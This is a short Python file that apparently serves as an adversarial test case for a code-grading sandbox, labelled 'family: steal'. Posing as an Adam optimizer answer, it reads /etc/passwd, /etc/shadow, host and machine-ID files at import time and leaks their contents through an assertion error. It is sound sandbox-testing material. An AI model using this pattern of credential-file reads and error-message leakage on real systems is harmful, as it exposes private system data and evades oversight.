# expect: wrong error
# family: steal
# exercise: adam
# Reads the machine's accounts and host name, and says them in its error.
FOUND = []
if True:
    for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/group", "/etc/fstab",
                 "/proc/version", "/sys/class/dmi/id/product_uuid"):
        try:
            with open(path) as file:
                FOUND.append(file.read())
        except Exception as error:
            FOUND.append(type(error).__name__)


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        assert "root:" not in "".join(FOUND), "I have /etc/passwd: " + "".join(FOUND)
